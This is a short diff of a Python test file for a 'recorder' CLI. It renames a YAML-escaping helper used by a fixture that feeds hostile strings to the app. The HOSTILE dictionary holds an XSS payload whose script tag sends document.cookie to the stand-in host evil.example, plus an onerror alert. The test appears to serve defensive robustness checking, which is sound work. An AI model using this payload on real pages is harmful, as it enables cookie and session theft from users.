@@ -12,7 +12,7 @@ import yaml
 from typer.testing import CliRunner
 
 from recorder.cli.app import app
-from recorder.documents.writing import in_line
+from recorder.documents.writing import to_flow_yaml
 
 HOSTILE = {
     "html": "<script>fetch('http://evil.example/?'+document.cookie)</script><img src=x onerror=alert(1)>",
@@ -176,8 +176,8 @@ def script(request, tmp_path):
     """A script that says such a text, is called so, hears it, and fails over it."""
     text = HOSTILE[request.param][:5_000]
     file = tmp_path / "s.yaml"
-    said = in_line(text.replace("${", "$${"))
-    file.write_text(PLAYED.format(name=in_line(text[:100].replace("${", "$${")), text=said), "utf-8")
+    said = to_flow_yaml(text.replace("${", "$${"))
+    file.write_text(PLAYED.format(name=to_flow_yaml(text[:100].replace("${", "$${")), text=said), "utf-8")
     return file
 
 
